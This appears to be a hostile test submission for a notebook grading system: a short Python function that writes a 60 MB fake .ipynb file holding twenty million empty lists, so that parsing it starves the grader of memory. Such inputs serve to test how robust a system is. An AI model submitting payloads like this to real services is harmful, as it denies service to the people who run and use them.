"""Hands in a file of 60 MB that is a list of twenty million empty lists, each larger in memory.

gain: starve
"""


def hand_in(folder, notebook):
    content = b'{"nbformat": 4, "cells": [' + b"[]," * (20 * 10**6) + b"[]]}"
    (folder / "01-toy.ipynb").write_bytes(content)
